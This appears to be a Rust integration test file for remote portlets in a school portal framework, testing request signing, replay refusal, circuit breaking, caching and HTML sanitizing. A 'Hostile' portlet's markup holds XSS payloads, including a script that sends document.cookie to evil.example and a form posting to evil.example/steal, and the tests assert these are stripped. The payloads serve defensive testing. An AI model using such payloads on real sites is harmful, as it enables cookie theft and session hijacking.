//! Remote portlets over real HTTP on 127.0.0.1: a producer, a consumer portal, signatures,
//! deadlines, the circuit breaker, sanitizing, the markup cache and the example producer
//! as a second process. Every server is stopped by its test (or dies with its runtime).

mod common;

use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use bytes::Bytes;
use cartable::portlet::CachePolicy;
use cartable::prelude::*;
use cartable::testing::{CallError, TestKit};
use cartable_fetch::{Fetcher, HostPolicy, OutboundRequest};
use cartable_remote::protocol::{HEADER_EXPIRES, HEADER_KEY_ID, HEADER_SIGNATURE};
use cartable_remote::{Producer, RemoteConfig, RemoteProducer, RunningProducer, SigningKey};
use common::*;
use http_body_util::{BodyExt, Full};
use hyper_util::rt::TokioIo;

const KEY_ID: &str = "ent-consumer";
const SECRET: &str = "test-secret-0123456789abcdef0123456789";

// ---------------------------------------------------------------------------------------
// Producer-side portlets.

/// Greets, counts its renders, shows a per-user counter, has a form, a link and a
/// preference; its action adds `by` to the counter and may change the colour.
struct Echo {
    descriptor: Descriptor,
    renders: Arc<AtomicUsize>,
}

#[async_trait]
impl Portlet for Echo {
    fn descriptor(&self) -> &Descriptor {
        &self.descriptor
    }
    async fn render(&self, ctx: &PortletContext) -> Result<RenderResponse, PortletError> {
        self.renders.fetch_add(1, Ordering::SeqCst);
        let n: u64 = ctx.data().get_json("n").await?.unwrap_or(0);
        Ok(Markup::trusted_html(format!(
            r#"<p>Bonjour {} [{}] n={n} mail={} page={}</p><form method="post" action="{}">{}<input type="hidden" name="by" value="2"><button type="submit">Plus</button></form><a href="{}">suite</a>"#,
            cartable::portlet::markup::escape(&ctx.user().display_name),
            ctx.preferences.get("color").unwrap_or(""),
            ctx.user().attribute("mail").unwrap_or("-"),
            ctx.param("page").unwrap_or("1"),
            ctx.urls().action(),
            ctx.csrf_field(),
            ctx.urls().render().param("page", 2),
        ))
        .into())
    }
    async fn action(
        &self,
        ctx: &mut PortletContext,
        req: ActionRequest,
    ) -> Result<ActionResponse, PortletError> {
        let by: u64 = req
            .required("by")?
            .parse()
            .map_err(|_| PortletError::BadRequest("by must be a number".into()))?;
        let n: u64 = ctx.data().get_json("n").await?.unwrap_or(0);
        ctx.data().set_json("n", &(n + by)).await?;
        if let Some(color) = req.field("color") {
            ctx.preferences.set("color", color)?;
        }
        Ok(ActionResponse::default())
    }
    async fn resource(
        &self,
        ctx: &PortletContext,
        req: ResourceRequest,
    ) -> Result<ResourceResponse, PortletError> {
        match req.id.as_str() {
            "export" => {
                let n: u64 = ctx.data().get_json("n").await?.unwrap_or(0);
                Ok(ResourceResponse::json(
                    &serde_json::json!({ "n": n, "q": req.params.get("q") }),
                )?
                .attachment("export.json"))
            }
            "script" => Ok(ResourceResponse::bytes("text/javascript", "alert(1)")),
            "big" => Ok(ResourceResponse::bytes(
                "application/octet-stream",
                vec![b'x'; 3 * 1024 * 1024],
            )),
            "gone" => {
                let mut r = ResourceResponse::text("parti");
                r.status = http::StatusCode::GONE;
                Ok(r)
            }
            other => Err(PortletError::NotFound(format!("no resource {other}"))),
        }
    }
    async fn event(
        &self,
        ctx: &mut PortletContext,
        event: &Event,
    ) -> Result<Vec<Event>, PortletError> {
        let color = event.payload["color"]
            .as_str()
            .unwrap_or("bleu")
            .to_string();
        ctx.preferences.set("color", color)?;
        Ok(vec![Event::new(
            "test.pong",
            serde_json::json!({ "from": "echo" }),
        )])
    }
}

/// Sleeps while `slow` is set; counts its calls.
struct Slow {
    descriptor: Descriptor,
    slow: Arc<AtomicBool>,
    calls: Arc<AtomicUsize>,
}

#[async_trait]
impl Portlet for Slow {
    fn descriptor(&self) -> &Descriptor {
        &self.descriptor
    }
    async fn render(&self, _ctx: &PortletContext) -> Result<RenderResponse, PortletError> {
        self.calls.fetch_add(1, Ordering::SeqCst);
        while self.slow.load(Ordering::SeqCst) {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        Ok(Markup::text("SLOW-BUT-BACK").into())
    }
}

/// Sends hostile markup.
struct Hostile(Descriptor);

const HOSTILE: &str = r#"<h3>Actus</h3><script>document.location='https://evil.example/?c='+document.cookie</script>
<img src="https://evil.example/x.png" onerror="alert(1)"><a href="javascript:alert(2)">clic</a>
<iframe src="https://evil.example/"></iframe><p style="width: expression(alert(3))" onmouseover="alert(4)">texte</p>
<form action="https://evil.example/steal" method="post"><input name="q"><button>Go</button></form>
<svg onload="alert(5)"><script>alert(6)</script></svg><a href="https://example.org/doc">doc</a>"#;

#[async_trait]
impl Portlet for Hostile {
    fn descriptor(&self) -> &Descriptor {
        &self.0
    }
    async fn render(&self, _ctx: &PortletContext) -> Result<RenderResponse, PortletError> {
        Ok(Markup::trusted_html(HOSTILE).into())
    }
}

/// Cached per user for a second; the same markup every time (so 304s are possible).
struct Cached {
    descriptor: Descriptor,
    renders: Arc<AtomicUsize>,
}

#[async_trait]
impl Portlet for Cached {
    fn descriptor(&self) -> &Descriptor {
        &self.descriptor
    }
    async fn render(&self, ctx: &PortletContext) -> Result<RenderResponse, PortletError> {
        self.renders.fetch_add(1, Ordering::SeqCst);
        Ok(Markup::text(&format!("CACHED for {}", ctx.user().display_name)).into())
    }
}

/// Counters shared with the producer's portlets.
#[derive(Clone, Default)]
struct Probes {
    echo_renders: Arc<AtomicUsize>,
    slow: Arc<AtomicBool>,
    slow_calls: Arc<AtomicUsize>,
    cached_renders: Arc<AtomicUsize>,
}

async fn producer(probes: &Probes) -> Producer {
    let echo = Echo {
        descriptor: Descriptor::new("echo", "Écho")
            .consumes("test.color")
            .preference(PreferenceSpec::new("color", "Couleur", "bleu").choices(["bleu", "vert"])),
        renders: probes.echo_renders.clone(),
    };
    let slow = Slow {
        descriptor: Descriptor::new("slow", "Lent"),
        slow: probes.slow.clone(),
        calls: probes.slow_calls.clone(),
    };
    let cached = Cached {
        descriptor: Descriptor::new("cached", "En cache")
            .cache(CachePolicy::PerUser(Duration::from_secs(1))),
        renders: probes.cached_renders.clone(),
    };
    Producer::builder("ENT producteur de test")
        .consumer(KEY_ID, SECRET)
        .unwrap()
        .portlet(Arc::new(echo))
        .portlet(Arc::new(slow))
        .portlet(Arc::new(Hostile(Descriptor::new("hostile", "Hostile"))))
        .portlet(Arc::new(cached))
        .deadline(Duration::from_secs(3))
        .build()
        .await
        .unwrap()
}

async fn serve(producer: Producer) -> RunningProducer {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    producer.serve(listener).unwrap()
}

// ---------------------------------------------------------------------------------------
// A counting front for a producer: every answer's path and status is recorded, and every
// call is kept as it went on the wire (what an eavesdropper could capture).

struct Counting {
    addr: std::net::SocketAddr,
    seen: Arc<Mutex<Vec<(String, u16)>>>,
    captured: Arc<Mutex<Vec<Captured>>>,
    task: tokio::task::JoinHandle<()>,
}

/// One call as it went from the consumer to the producer.
#[derive(Clone)]
struct Captured {
    method: http::Method,
    path_and_query: String,
    headers: http::HeaderMap,
    body: Bytes,
}

impl Counting {
    async fn start(producer: Producer) -> Self {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let captured = Arc::new(Mutex::new(Vec::new()));
        let log = seen.clone();
        let tape = captured.clone();
        let task = tokio::spawn(async move {
            let mut connections = tokio::task::JoinSet::new();
            while let Ok((stream, _)) = listener.accept().await {
                let producer = producer.clone();
                let log = log.clone();
                let tape = tape.clone();
                let service = hyper::service::service_fn(
                    move |req: hyper::Request<hyper::body::Incoming>| {
                        let producer = producer.clone();
                        let log = log.clone();
                        let tape = tape.clone();
                        async move {
                            let (parts, body) = req.into_parts();
                            let body = body
                                .collect()
                                .await
                                .map(|b| b.to_bytes())
                                .unwrap_or_default();
                            let path = parts.uri.path().to_string();
                            tape.lock().unwrap().push(Captured {
                                method: parts.method.clone(),
                                path_and_query: parts
                                    .uri
                                    .path_and_query()
                                    .map_or(path.clone(), |pq| pq.to_string()),
                                headers: parts.headers.clone(),
                                body: body.clone(),
                            });
                            let answer = producer
                                .handle(hyper::Request::from_parts(parts, body))
                                .await;
                            log.lock().unwrap().push((path, answer.status().as_u16()));
                            Ok::<_, std::convert::Infallible>(answer.map(Full::new))
                        }
                    },
                );
                connections.spawn(async move {
                    let _ = hyper::server::conn::http1::Builder::new()
                        .serve_connection(TokioIo::new(stream), service)
                        .await;
                });
            }
        });
        Counting {
            addr,
            seen,
            captured,
            task,
        }
    }

    /// The last call whose path ends so.
    fn last_call(&self, path_end: &str) -> Option<Captured> {
        self.captured
            .lock()
            .unwrap()
            .iter()
            .rev()
            .find(|c| c.path_and_query.ends_with(path_end))
            .cloned()
    }

    fn count(&self, path_end: &str, status: u16) -> usize {
        self.seen
            .lock()
            .unwrap()
            .iter()
            .filter(|(p, s)| p.ends_with(path_end) && *s == status)
            .count()
    }

    fn stop(self) {
        self.task.abort();
    }
}

// ---------------------------------------------------------------------------------------
// Consumer helpers.

fn config(addr: std::net::SocketAddr) -> RemoteConfig {
    let mut c = RemoteConfig::new(
        "prod",
        format!("http://{addr}/").parse().unwrap(),
        KEY_ID,
        SECRET,
    );
    c.attributes = vec!["mail".into()];
    c
}

fn fetcher(addr: std::net::SocketAddr) -> Fetcher {
    Fetcher::new(HostPolicy::new().allow(&addr.to_string()))
}

async fn consumer(config: RemoteConfig, addr: std::net::SocketAddr) -> RemoteProducer {
    RemoteProducer::connect(config, fetcher(addr))
        .await
        .expect("the consumer reads the service description")
}

fn portlet(remote: &RemoteProducer, local_id: &str) -> Arc<dyn Portlet> {
    remote
        .portlets()
        .into_iter()
        .find(|p| p.descriptor().id == local_id)
        .unwrap_or_else(|| panic!("no remote portlet {local_id}"))
}

fn kit_for(portlet: Arc<dyn Portlet>) -> TestKit {
    TestKit::new(portlet)
        .user_with("lea", "Léa Martin", [Profile::Eleve])
        .attribute("mail", ["lea@example.org"])
        .attribute("telephoneNumber", ["0600000000"])
}

const PORTAL: &str = r#"
deadline_ms = 3000
etablissement = "Lycée consommateur"
[[layouts.default.tabs]]
id = "accueil"
title = "Accueil"
columns = [[{ portlet = "prod-echo" }, { portlet = "prod-slow" }]]
"#;

// ---------------------------------------------------------------------------------------
// Tests.

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_remote_portlet_renders_and_acts_through_the_consumer_portal() {
    let probes = Probes::default();
    let producer = serve(producer(&probes).await).await;
    let remote = consumer(config(producer.local_addr()), producer.local_addr()).await;
    assert_eq!(remote.description().producer, "ENT producteur de test");
    let ids: Vec<String> = remote
        .portlets()
        .iter()
        .map(|p| p.descriptor().id.clone())
        .collect();
    assert_eq!(
        ids,
        ["prod-echo", "prod-slow", "prod-hostile", "prod-cached"]
    );

    let dir = tempfile::tempdir().unwrap();
    let portal = TestPortal::start(PORTAL, dir.path(), remote.portlets()).await;
    let mut c = portal.login("lea").await;
    let page = c.get("/page/accueil").await;
    assert_eq!(page.status, 200);
    // Identity claims and preferences went to the producer; only the configured attributes.
    assert!(
        page.body
            .contains("Bonjour Léa Martin [bleu] n=0 mail=lea@example.org page=1"),
        "{}",
        page.body
    );
    // URLs and the CSRF token are this portal's, for this window.
    let token = extract_csrf(&page.body).unwrap();
    assert!(
        page.body.contains(r#"action="/action/accueil/prod-echo""#),
        "{}",
        page.body
    );
    assert!(page.body.contains(&format!(r#"value="{token}""#)));
    assert!(
        page.body
            .contains(r#"href="/page/accueil/prod-echo?p.page=2""#)
    );
    assert!(
        !page.body.contains("cartable-remote"),
        "no placeholder left"
    );

    // A render parameter travels to the producer.
    let second = c.get("/page/accueil/prod-echo?p.page=2").await;
    assert!(second.body.contains("page=2"), "{}", second.body);

    // Actions: the portal checks CSRF before anything reaches the producer.
    let renders_before = probes.echo_renders.load(Ordering::SeqCst);
    let forged = c
        .post(
            "/action/accueil/prod-echo",
            &[("_csrf", "forged"), ("by", "5")],
        )
        .await;
    assert_eq!(forged.status, 403);
    let ok = c
        .post_csrf(
            "/action/accueil/prod-echo",
            &[("by", "2"), ("color", "vert")],
        )
        .await;
    assert_eq!(ok.status, 303, "{}", ok.body);
    assert_eq!(ok.location(), "/page/accueil#w-prod-echo");
    let after = c.get("/page/accueil").await;
    assert!(
        after.body.contains("[vert] n=2"),
        "the producer's data and the preference it changed (stored by the consumer): {}",
        after.body
    );
    assert!(probes.echo_renders.load(Ordering::SeqCst) > renders_before);
    // The producer's refusal comes back as the portal's 400, with its message.
    let bad = c
        .post_csrf("/action/accueil/prod-echo", &[("by", "many")])
        .await;
    assert_eq!(bad.status, 400);
    assert!(bad.body.contains("by must be a number"), "{}", bad.body);

    portal.stop().await;
    producer.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_slow_producer_is_bounded_by_the_call_deadline() {
    let probes = Probes::default();
    probes.slow.store(true, Ordering::SeqCst);
    let producer = serve(producer(&probes).await).await;
    let mut cfg = config(producer.local_addr());
    cfg.timeout_ms = 300;
    let remote = consumer(cfg, producer.local_addr()).await;
    let dir = tempfile::tempdir().unwrap();
    let portal = TestPortal::start(PORTAL, dir.path(), remote.portlets()).await;
    let mut c = portal.login("lea").await;
    let started = Instant::now();
    let page = c.get("/page/accueil").await;
    let took = started.elapsed();
    assert_eq!(page.status, 200);
    assert!(took < Duration::from_millis(1500), "page took {took:?}");
    assert!(
        page.body.contains("momentanément indisponible"),
        "the fallback, not the portal's timeout box: {}",
        page.body
    );
    assert!(
        page.body.contains("Bonjour Léa Martin"),
        "the other window is intact"
    );
    probes.slow.store(false, Ordering::SeqCst);
    portal.stop().await;
    producer.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_dead_producer_gets_the_fallback_at_once_and_is_retried_later() {
    let probes = Probes::default();
    probes.slow.store(true, Ordering::SeqCst);
    let producer = serve(producer(&probes).await).await;
    let mut cfg = config(producer.local_addr());
    cfg.timeout_ms = 800;
    cfg.failures_before_open = 2;
    cfg.open_seconds = 1;
    let remote = consumer(cfg, producer.local_addr()).await;
    let kit = kit_for(portlet(&remote, "prod-slow")).locale("en");

    // Two calls time out: the breaker opens.
    for _ in 0..2 {
        let out = kit.render().await.unwrap();
        assert!(
            out.text().contains("unavailable for the moment"),
            "{}",
            out.html()
        );
    }
    assert_eq!(probes.slow_calls.load(Ordering::SeqCst), 2);
    assert!(remote.is_open());

    // Open: the fallback comes at once, the producer is not called.
    let started = Instant::now();
    let out = kit.render().await.unwrap();
    let took = started.elapsed();
    assert!(out.text().contains("unavailable for the moment"));
    assert!(
        took < Duration::from_millis(200),
        "fallback took {took:?} (timeout 800 ms)"
    );
    assert_eq!(
        probes.slow_calls.load(Ordering::SeqCst),
        2,
        "not called while open"
    );
    let fr = kit.clone().locale("fr").render().await.unwrap();
    assert!(
        fr.text().contains("momentanément indisponible"),
        "{}",
        fr.html()
    );

    // After open_seconds, one probe goes through; the producer has recovered.
    probes.slow.store(false, Ordering::SeqCst);
    tokio::time::sleep(Duration::from_millis(1100)).await;
    let out = kit.render().await.unwrap();
    assert_eq!(out.text(), "SLOW-BUT-BACK");
    assert_eq!(probes.slow_calls.load(Ordering::SeqCst), 3);
    assert!(!remote.is_open());

    // A producer that is gone altogether: refused connections count as failures too.
    producer.shutdown().await;
    for _ in 0..2 {
        let out = kit.render().await.unwrap();
        assert!(out.text().contains("unavailable"));
    }
    assert!(remote.is_open());
    let started = Instant::now();
    assert!(kit.render().await.unwrap().text().contains("unavailable"));
    assert!(started.elapsed() < Duration::from_millis(200));
    // Actions are refused at once too, never queued or retried.
    let act = kit.action([("x", "1")]).await;
    assert!(
        matches!(act, Err(CallError::Portlet(PortletError::Socle(_)))),
        "{act:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_markup_of_an_untrusted_producer_comes_out_without_script() {
    let probes = Probes::default();
    let producer = serve(producer(&probes).await).await;
    let remote = consumer(config(producer.local_addr()), producer.local_addr()).await;
    // Its forms have no CSRF field (it is hostile on purpose): let the kit render them.
    let out = kit_for(portlet(&remote, "prod-hostile"))
        .check_forms(false)
        .render()
        .await
        .unwrap();
    let html = out.html().to_ascii_lowercase();
    for bad in [
        "<script",
        "onerror",
        "onmouseover",
        "onload",
        "javascript:",
        "<iframe",
        "style=",
        "expression",
        "evil.example/steal",
        "alert(",
    ] {
        assert!(!html.contains(bad), "{bad:?} survived in {html}");
    }
    assert!(html.contains("<h3>actus</h3>"), "{html}");
    assert!(
        html.contains(r#"<a href="https://example.org/doc" rel="noopener noreferrer">doc</a>"#)
    );
    assert!(
        html.contains("<input name=\"q\">"),
        "forms stay, without foreign action: {html}"
    );

    // The same producer marked trusted: its markup is shown as it is.
    let mut cfg = config(producer.local_addr());
    cfg.trusted = true;
    let trusted = consumer(cfg, producer.local_addr()).await;
    let raw = kit_for(portlet(&trusted, "prod-hostile"))
        .check_forms(false)
        .render()
        .await
        .unwrap();
    assert!(
        raw.html().contains("<script>"),
        "trusted markup is not sanitized"
    );
    producer.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn missing_forged_and_expired_signatures_get_401() {
    let probes = Probes::default();
    let producer = serve(producer(&probes).await).await;
    let addr = producer.local_addr();
    let fetch = fetcher(addr);
    let url = |path: &str| format!("http://{addr}{path}").parse().unwrap();
    let body = br#"{"user":{"id":"lea","display_name":"L","profiles":[],"attributes":{}},"window":{"id":"w","tab":"t","mode":"view","state":"normal"},"locale":"fr"}"#.to_vec();
    let signed = |key: &SigningKey, expires: Option<u64>| {
        let mut req = OutboundRequest::post(
            url("/portlets/echo/markup"),
            "application/json",
            body.clone(),
        );
        let headers = match expires {
            Some(at) => {
                key.headers_expiring(&http::Method::POST, "/portlets/echo/markup", &body, at)
            }
            None => key.headers(
                &http::Method::POST,
                "/portlets/echo/markup",
                &body,
                Duration::from_secs(30),
            ),
        };
        for (name, value) in headers {
            req = req.header(http::header::HeaderName::from_static(name), &value);
        }
        req
    };
    let key = SigningKey::new(KEY_ID, SECRET).unwrap();

    let good = fetch.send(signed(&key, None)).await.unwrap();
    assert_eq!(good.status, 200, "{:?}", good.body);

    let missing = fetch
        .send(OutboundRequest::post(
            url("/portlets/echo/markup"),
            "application/json",
            body.clone(),
        ))
        .await
        .unwrap();
    assert_eq!(missing.status, 401);
    assert!(String::from_utf8_lossy(&missing.body).contains(HEADER_KEY_ID));

    let forger = SigningKey::new(KEY_ID, "another-secret-0123456789abcdef0123456").unwrap();
    let forged = fetch.send(signed(&forger, None)).await.unwrap();
    assert_eq!(forged.status, 401);
    assert!(String::from_utf8_lossy(&forged.body).contains("does not match"));

    let now = cartable_remote::signing::unix_now();
    let expired = fetch.send(signed(&key, Some(now - 10))).await.unwrap();
    assert_eq!(expired.status, 401);
    assert!(String::from_utf8_lossy(&expired.body).contains("expired"));

    // A valid signature does not cover another body.
    let mut tampered = signed(&key, None);
    tampered.body = Bytes::from(body.clone().into_iter().rev().collect::<Vec<u8>>());
    assert_eq!(fetch.send(tampered).await.unwrap().status, 401);

    // Nothing is told to a stranger, not even what exists.
    let mut unknown = signed(&key, None);
    unknown.headers.remove(HEADER_SIGNATURE);
    unknown.headers.remove(HEADER_EXPIRES);
    assert_eq!(fetch.send(unknown).await.unwrap().status, 401);
    let description = fetch
        .send(OutboundRequest::get(url("/description")))
        .await
        .unwrap();
    assert_eq!(description.status, 401);

    // The consumer says what to fix when its key is wrong.
    let mut cfg = config(addr);
    cfg.key = "wrong-secret-0123456789abcdef0123456789".into();
    let err = RemoteProducer::connect(cfg, fetcher(addr))
        .await
        .unwrap_err();
    assert!(
        err.to_string().contains("check `key_id` and `key`"),
        "{err}"
    );
    producer.shutdown().await;
}

/// Replays a captured call to the producer, straight, with the same headers and body.
async fn replay(fetch: &Fetcher, addr: std::net::SocketAddr, call: &Captured) -> (u16, Bytes) {
    let url = format!("http://{addr}{}", call.path_and_query)
        .parse()
        .unwrap();
    let mut req = if call.method == http::Method::GET {
        OutboundRequest::get(url)
    } else {
        OutboundRequest::post(url, "application/json", call.body.clone())
    };
    for (name, value) in &call.headers {
        if name != http::header::HOST && name != http::header::CONTENT_LENGTH {
            req.headers.insert(name.clone(), value.clone());
        }
    }
    let answer = fetch.send(req).await.unwrap();
    (answer.status.as_u16(), answer.body)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_captured_action_replayed_to_the_producer_is_refused_and_not_run_again() {
    let probes = Probes::default();
    let front = Counting::start(producer(&probes).await).await;
    let remote = consumer(config(front.addr), front.addr).await;
    let kit = kit_for(portlet(&remote, "prod-echo"));
    kit.action([("by", "2")]).await.unwrap();
    let before = kit.render().await.unwrap();
    assert!(before.text().contains("n=2"), "{}", before.html());

    // Someone who captured the portal's signed action call sends it again, within the
    // signature's lifetime, from anywhere: the producer refuses it, and does not act.
    let action = front
        .last_call("/portlets/echo/action")
        .expect("the action was sent");
    let fetch = fetcher(front.addr);
    let (status, body) = replay(&fetch, front.addr, &action).await;
    assert_eq!(status, 401, "{}", String::from_utf8_lossy(&body));
    assert!(
        String::from_utf8_lossy(&body).contains("already"),
        "{}",
        String::from_utf8_lossy(&body)
    );
    let (status, _) = replay(&fetch, front.addr, &action).await;
    assert_eq!(status, 401, "refused every time");
    let after = kit.render().await.unwrap();
    assert!(
        after.text().contains("n=2"),
        "not run twice: {}",
        after.html()
    );

    // Reads are not replayable either (the answer could carry fresher data).
    let markup = front
        .last_call("/portlets/echo/markup")
        .expect("a render was sent");
    let (status, _) = replay(&fetch, front.addr, &markup).await;
    assert_eq!(status, 401);

    // The consumer's own calls, each signed anew, still go through.
    kit.action([("by", "1")]).await.unwrap();
    let third = kit.render().await.unwrap();
    assert!(third.text().contains("n=3"), "{}", third.html());
    front.stop();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unknown_keys_and_unknown_portlets_get_the_same_401_as_a_bad_signature() {
    let probes = Probes::default();
    let producer = serve(producer(&probes).await).await;
    let addr = producer.local_addr();
    let fetch = fetcher(addr);
    let body = br#"{"user":{"id":"lea","display_name":"L","profiles":[],"attributes":{}},"window":{"id":"w","tab":"t","mode":"view","state":"normal"},"locale":"fr"}"#.to_vec();
    let send = |key: Option<SigningKey>, path: &'static str| {
        let fetch = fetch.clone();
        let body = body.clone();
        async move {
            let url = format!("http://{addr}{path}").parse().unwrap();
            let mut req = OutboundRequest::post(url, "application/json", body.clone());
            if let Some(key) = key {
                for (name, value) in
                    key.headers(&http::Method::POST, path, &body, Duration::from_secs(30))
                {
                    req = req.header(http::header::HeaderName::from_static(name), &value);
                }
            }
            let r = fetch.send(req).await.unwrap();
            let mut headers: Vec<(String, String)> = r
                .headers
                .iter()
                .filter(|(n, _)| *n != http::header::DATE)
                .map(|(n, v)| (n.to_string(), v.to_str().unwrap_or("").to_string()))
                .collect();
            headers.sort();
            (r.status.as_u16(), headers, r.body)
        }
    };
    let forger = || SigningKey::new(KEY_ID, "another-secret-0123456789abcdef0123456").ok();
    let stranger = || SigningKey::new("ent-inconnu", SECRET).ok();

    let forged = send(forger(), "/portlets/echo/markup").await;
    assert_eq!(forged.0, 401);
    // An unknown key id cannot be told from a known one with a wrong secret.
    assert_eq!(send(stranger(), "/portlets/echo/markup").await, forged);
    // Nor can an unknown portlet be told from a known one.
    assert_eq!(send(forger(), "/portlets/nope/markup").await, forged);
    assert_eq!(send(stranger(), "/portlets/nope/markup").await, forged);
    let unsigned = send(None, "/portlets/echo/markup").await;
    assert_eq!(unsigned.0, 401);
    assert_eq!(send(None, "/portlets/nope/markup").await, unsigned);
    assert_eq!(send(None, "/portlets/nope/nothing").await, unsigned);
    producer.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn markup_is_cached_as_the_producer_says_and_revalidated_with_etag() {
    let probes = Probes::default();
    let front = Counting::start(producer(&probes).await).await;
    let remote = consumer(config(front.addr), front.addr).await;
    let kit = kit_for(portlet(&remote, "prod-cached"));

    let first = kit.render().await.unwrap();
    assert_eq!(first.text(), "CACHED for Léa Martin");
    let second = kit.render().await.unwrap();
    assert_eq!(second.html(), first.html());
    assert_eq!(
        front.count("/cached/markup", 200),
        1,
        "within max-age: no call"
    );
    assert_eq!(probes.cached_renders.load(Ordering::SeqCst), 1);

    // Another user, or another locale, is another entry.
    let paul = kit
        .clone()
        .user_with("paul", "Paul Durand", [Profile::Enseignant]);
    assert_eq!(
        paul.render().await.unwrap().text(),
        "CACHED for Paul Durand"
    );
    kit.clone().locale("en").render().await.unwrap();
    assert_eq!(front.count("/cached/markup", 200), 3);

    // After max-age (1 s): revalidated with If-None-Match, answered 304, fragment reused.
    tokio::time::sleep(Duration::from_millis(1100)).await;
    let third = kit.render().await.unwrap();
    assert_eq!(third.html(), first.html());
    assert_eq!(front.count("/cached/markup", 304), 1);
    assert_eq!(front.count("/cached/markup", 200), 3);
    // Fresh again after the 304.
    kit.render().await.unwrap();
    assert_eq!(
        front.count("/cached/markup", 304) + front.count("/cached/markup", 200),
        4
    );

    // A no-cache portlet is revalidated every time: one call per render, 304 when unchanged.
    let echo = kit_for(portlet(&remote, "prod-echo"));
    echo.render().await.unwrap();
    echo.render().await.unwrap();
    assert_eq!(front.count("/echo/markup", 200), 1);
    assert_eq!(front.count("/echo/markup", 304), 1, "same body: 304");
    front.stop();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn resources_and_events_are_forwarded() {
    let probes = Probes::default();
    let producer = serve(producer(&probes).await).await;
    let mut cfg = config(producer.local_addr());
    cfg.max_resource_bytes = 1024 * 1024;
    let remote = consumer(cfg, producer.local_addr()).await;

    // Through the portal: the resource URL of the window, answered by the producer.
    let dir = tempfile::tempdir().unwrap();
    let portal = TestPortal::start(PORTAL, dir.path(), remote.portlets()).await;
    let mut c = portal.login("lea").await;
    let json = c.get("/resource/accueil/prod-echo/export?p.q=abc").await;
    assert_eq!(json.status, 200, "{}", json.body);
    assert_eq!(json.header("content-type"), Some("application/json"));
    assert_eq!(json.body, r#"{"n":0,"q":"abc"}"#);
    assert!(
        json.header("content-disposition")
            .unwrap()
            .contains("export.json")
    );
    assert_eq!(
        c.get("/resource/accueil/prod-echo/nothing").await.status,
        404
    );
    portal.stop().await;

    let echo = kit_for(portlet(&remote, "prod-echo"));
    // Script from an untrusted producer never runs on the portal's origin.
    let script = echo.resource("script", [("a", "b")]).await.unwrap();
    assert_eq!(script.content_type, "application/octet-stream");
    assert!(script.attachment.is_some());
    // The resource's own status comes through.
    let gone = echo.resource("gone", [("a", "b")]).await.unwrap();
    assert_eq!(gone.status, http::StatusCode::GONE);
    assert_eq!(&gone.body[..], b"parti");
    // Size cap.
    let big = echo.resource("big", [("a", "b")]).await;
    assert!(
        matches!(&big, Err(CallError::Portlet(PortletError::Internal(m))) if m.contains("max_resource_bytes")),
        "{big:?}"
    );
    assert!(!remote.is_open(), "a big answer is not a dead producer");

    // Events: delivered to the producer, preference changes and new events come back.
    let emitted = echo
        .event(Event::new(
            "test.color",
            serde_json::json!({ "color": "vert" }),
        ))
        .await
        .unwrap();
    assert_eq!(
        emitted,
        [Event::new(
            "test.pong",
            serde_json::json!({ "from": "echo" })
        )]
    );
    assert_eq!(echo.preferences().await.unwrap().get("color"), Some("vert"));
    assert!(echo.render().await.unwrap().text().contains("[vert]"));
    producer.shutdown().await;
}

/// The example producer as a second process: found next to this test's binary
/// (`target/<profile>/examples/remote_producer`, built by `cargo build --examples`, as
/// `scripts/test.sh` does).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_example_producer_serves_another_process() {
    let exe = std::env::current_exe().unwrap();
    let Some(profile_dir) = exe.parent().and_then(|deps| deps.parent()) else {
        eprintln!("SKIPPED: cannot find the target directory from {exe:?}");
        return;
    };
    let binary = profile_dir
        .join("examples")
        .join(format!("remote_producer{}", std::env::consts::EXE_SUFFIX));
    if !binary.exists() {
        eprintln!("SKIPPED: {binary:?} is not built; run `cargo build --example remote_producer`");
        return;
    }
    let mut child = std::process::Command::new(&binary)
        .args([
            "--listen",
            "127.0.0.1:0",
            "--key-id",
            KEY_ID,
            "--key",
            SECRET,
            "--exit-after",
            "120",
        ])
        .env_remove("CARTABLE_REMOTE_LISTEN")
        .env("RUST_LOG", "warn")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::inherit())
        .spawn()
        .expect("the example starts");
    let stdout = child.stdout.take().unwrap();
    // Killed when the test ends, even by a failed assertion (and it exits by itself
    // after 120 s anyway).
    let _guard = KillOnDrop(child);
    let first = tokio::time::timeout(
        Duration::from_secs(20),
        tokio::task::spawn_blocking(move || {
            let mut line = String::new();
            std::io::BufRead::read_line(&mut std::io::BufReader::new(stdout), &mut line)
                .map(|_| line)
        }),
    )
    .await
    .expect("the example prints its address within 20 s")
    .unwrap()
    .unwrap();
    let addr: std::net::SocketAddr = first
        .trim()
        .strip_prefix("http://")
        .and_then(|rest| rest.strip_suffix('/'))
        .and_then(|a| a.parse().ok())
        .unwrap_or_else(|| panic!("the first line is the base URL, got {first:?}"));

    let mut cfg = config(addr);
    cfg.id = "voisin".into();
    let remote = consumer(cfg, addr).await;
    let ids: Vec<String> = remote
        .portlets()
        .iter()
        .map(|p| p.descriptor().id.clone())
        .collect();
    assert_eq!(
        ids,
        [
            "voisin-bienvenue",
            "voisin-bloc-notes",
            "voisin-nouveautes",
            "voisin-cantine"
        ]
    );
    let welcome = kit_for(portlet(&remote, "voisin-bienvenue"))
        .render()
        .await
        .unwrap();
    assert!(welcome.text().contains("Léa"), "{}", welcome.html());
    welcome.assert_accessible();

    let cantine = kit_for(portlet(&remote, "voisin-cantine"));
    let before = cantine.render().await.unwrap();
